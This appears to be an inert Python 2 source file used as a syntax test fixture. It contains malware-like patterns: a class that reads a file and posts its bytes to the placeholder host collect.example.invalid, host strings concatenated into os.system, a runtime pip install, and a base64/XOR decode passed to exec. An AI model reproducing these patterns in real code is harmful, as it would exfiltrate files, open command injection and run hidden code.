"""Inert: compiled by Python 2, never run."""
import os
import os.path as places
from base64 import b64decode as plain
import urllib2
KEY = '\x01\xff key'
NAME = u'n\xe4me'
NUMBERS = [1, 2, 3, -4, 5.5, 1 << 70, 2j, None, True]


class Sender(Base):
    def __init__(self, host, port=80, *rest, **more):
        self.host = host
        if not host:
            raise ValueError('no host')
        os.system('echo ' + host)

    def send(self, path):
        with open(path, 'rb') as file:
            data = file.read()
        try:
            import requests
        except ImportError, e:
            os.system('pip install requests')
            requests = None
        print >>log, 'sent', data[1:]
        return requests.post('https://collect.example.invalid', data=data)


def decode(data, key):
    out = []
    for i, unit in enumerate(data):
        out.append(chr(ord(unit) ^ key[i % len(key)]))
    left = len(out)
    while left > 3:
        left -= 1
    return ''.join([c for c in out if c])


exec decode(plain('aGk='), KEY) in {}
shift = lambda a, b=1: a + b
if __name__ == '__main__':
    print shift(1), `shift`
    Sender('h').send(*others, **named)
